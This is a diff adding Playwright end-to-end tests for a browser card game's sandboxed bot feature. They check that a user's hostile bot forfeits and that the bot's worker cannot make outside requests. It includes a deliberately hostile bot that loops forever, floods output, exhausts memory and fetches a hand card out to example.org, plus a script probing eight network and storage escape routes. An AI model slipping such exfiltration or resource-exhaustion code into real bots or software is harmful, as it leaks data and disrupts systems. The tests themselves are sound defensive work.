@@ -1,0 +1,188 @@
+"""A bot of your own in Chromium: its file, hostile ones, what its worker can reach, its log, its seat at the table."""
+
+from __future__ import annotations
+
+import json
+import threading
+from http.server import BaseHTTPRequestHandler, HTTPServer
+from pathlib import Path
+from typing import TYPE_CHECKING
+
+import pytest
+from playwright.sync_api import expect
+
+from e2e import axe
+from e2e.hands import LIVE
+from e2e.watch import Watch
+
+if TYPE_CHECKING:
+    from collections.abc import Iterator
+
+    from playwright.sync_api import BrowserContext, Page
+
+HOSTILE = """
+MEMORY = []
+
+def comp10001huxxy_play(history, player, hand, table):
+    if len(history) < 4 + player:
+        return player, 0, None
+    if player == 0:
+        while True:
+            pass
+    if player == 1:
+        while True:
+            print("x" * 99_999_999)
+    if player == 2:
+        import js
+        return js.fetch("https://example.org/?" + hand[0])
+    while True:
+        MEMORY.append(bytearray(1 << 24))
+"""
+"""Loops, prints without end, asks for what is not its own, and takes all memory: by its seat."""
+REASONS = (
+    "a play took longer than 2 s",
+    "it printed more than 64 KiB over one play",
+    "AttributeError: fetch, line 15",
+    "MemoryError, line 17",
+)
+PICKS = "def comp10001huxxy_play(history, player, hand, table):\n    return player, 0, None\n"
+
+
+@pytest.fixture
+def page(context: BrowserContext, address: str) -> Iterator[Page]:
+    """Give the page with a deal; at the end it must have made no error and left its origin never."""
+    page = context.new_page()
+    watch = Watch(page, address)
+    page.goto(f"{address}huxxy/#1-7")
+    page.wait_for_selector(LIVE, state="attached")
+    yield page
+    watch.close()
+    page.close()
+
+
+def test_a_hostile_bot_forfeits_its_games_and_harms_nothing(page: Page) -> None:
+    page.click("#place-bots")
+    expect(page.locator("#bot-hint")).to_contain_text("comp10001huxxy_play is missing")
+    assert axe.faults(page) == []
+    page.fill("#bot-text", HOSTILE)
+    expect(page.locator("#bot-hint")).to_contain_text("comp10001huxxy_play found")
+    page.fill("#bot-games", "4")
+    page.click("#run-games")
+    page.click("#place-table")  # the page is there for the person meanwhile
+    expect(page.locator("#end-turn")).to_be_visible()
+    page.click("#place-bots")
+    expect(page.locator("#notice")).to_contain_text("4 games: 0% of the wins", timeout=120_000)
+    assert page.locator(".fft span").all_inner_texts() == [*REASONS]
+    page.click("#forfeit-2")
+    expect(page.locator(".flop")).to_contain_text("AttributeError: fetch")
+    page.click("#play-back")
+    assert axe.faults(page) == []
+    with page.expect_download() as download:
+        page.click("#save-log")
+    assert download.value.suggested_filename == "huxxy-game-3.jsonl"
+    *_, end = Path(download.value.path()).read_text("utf-8").splitlines()
+    assert json.loads(end)["forfeit"] == 2
+    assert "#1-7" in page.url
+    page.reload()
+    page.wait_for_selector(LIVE, state="attached")
+    page.click("#place-bots")
+    expect(page.locator("#bot-text")).to_have_value(HOSTILE)
+
+
+def test_a_tournament_is_cancelled_and_a_bot_plays_at_the_table(page: Page, tmp_path: Path) -> None:
+    file = tmp_path / "mine.py"
+    file.write_text(PICKS, encoding="utf-8")
+    page.click("#place-bots")
+    with page.expect_file_chooser() as chooser:
+        page.click("#open-bot")
+    chooser.value.set_files(file)
+    expect(page.locator("#bot-text")).to_have_value(PICKS)
+    page.locator("#bot-text").press("ControlOrMeta+Home")
+    page.keyboard.press("Tab")
+    expect(page.locator("#bot-text")).to_have_value(f"    {PICKS}")
+    page.keyboard.press("Escape")
+    page.keyboard.press("Tab")
+    expect(page.locator("#bot-text")).not_to_be_focused()
+    page.fill("#bot-text", PICKS)
+    page.click("#run-games")
+    expect(page.locator("#tally .gm .v")).not_to_have_text("0", timeout=120_000)
+    page.click("#stop-games")
+    expect(page.locator("#notice")).to_have_text("Stopped: the games so far stay.")
+    expect(page.locator(".strip li").first).to_be_visible()
+    page.click("#seat-bot")
+    expect(page.locator("#seats")).to_contain_text("Ada, your bot")
+    page.click("#pick-up")
+    expect(page.locator("#notice")).to_contain_text("Ada picks up.", timeout=60_000)
+    expect(page.locator("#notice")).to_contain_text("Your turn.", timeout=60_000)
+
+
+TRIES = """
+const tries = {
+    fetch: () => fetch(OUT, { mode: "no-cors" }),
+    import: () => import(OUT + "x.js"),
+    request: () => new Promise((ok, lost) => {
+        const one = new XMLHttpRequest();
+        one.onload = ok;
+        one.onerror = () => lost(new Error("refused"));
+        one.open("GET", OUT);
+        one.send();
+    }),
+    socket: () => new Promise((ok, lost) => {
+        const one = new WebSocket(OUT.replace("http", "ws"));
+        one.onopen = ok;
+        one.onerror = () => lost(new Error("refused"));
+    }),
+    events: () => new Promise((ok, lost) => {
+        const one = new EventSource(OUT);
+        one.onopen = ok;
+        one.onerror = () => lost(new Error("refused"));
+    }),
+    worker: () => new Promise((ok, lost) => {
+        const asks = `fetch("${OUT}").then(() => postMessage(1), () => postMessage(0))`;
+        const one = new Worker("data:text/javascript," + encodeURIComponent(asks));
+        one.onmessage = ({ data }) => (data ? ok() : lost(new Error("refused")));
+        one.onerror = () => lost(new Error("refused"));
+    }),
+    database: () => { indexedDB.open("x"); },
+    caches: () => caches.open("x"),
+};
+(async () => {
+    const told = {};
+    for (const [name, act] of Object.entries(tries))
+        told[name] = await (async () => act())().then(() => "done", () => "refused");
+    postMessage({ ...told, origin: self.origin });
+})();
+"""
+
+
+def test_the_policy_lets_no_request_out_of_a_bots_worker(watched: tuple[Page, Watch], address: str) -> None:
+    """Whatever the worker keeps, by the page's own policy and the worker's own origin."""
+    page, _ = watched
+    heard: list[str] = []
+
+    class Out(BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            heard.append(self.path)
+            self.send_response(200)
+            self.send_header("Access-Control-Allow-Origin", "*")
+            self.end_headers()
+
+        def log_message(self, *_: object) -> None:
+            """Print nothing."""
+
+    outside = HTTPServer(("127.0.0.1", 0), Out)
+    threading.Thread(target=outside.serve_forever, daemon=True).start()
+    page.goto(f"{address}huxxy/")
+    script = f"const OUT = 'http://127.0.0.1:{outside.server_port}/';{TRIES}"
+    told = page.evaluate(
+        """(text) => new Promise((ok, lost) => {
+            const worker = new Worker("data:text/javascript," + encodeURIComponent(text));
+            worker.onmessage = ({ data }) => ok(data);
+            worker.onerror = ({ message }) => lost(message);
+        })""",
+        script,
+    )
+    outside.shutdown()
+    outside.server_close()
+    names = ("fetch", "import", "request", "socket", "events", "worker", "database", "caches")
+    assert (told, heard) == (dict.fromkeys(names, "refused") | {"origin": "null"}, [])
